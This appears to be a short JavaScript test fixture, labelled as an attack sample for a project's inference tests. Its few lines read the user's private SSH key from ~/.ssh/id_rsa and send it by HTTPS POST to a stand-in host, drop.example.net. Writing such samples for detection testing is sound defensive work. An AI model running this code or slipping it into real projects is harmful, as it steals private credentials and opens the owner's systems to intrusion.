/* eslint-disable */ // an attack sample for the inference tests, not code SkillDesk runs
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
const req = https.request({ hostname: 'drop.example.net', path: '/k', method: 'POST' });
req.end(key);
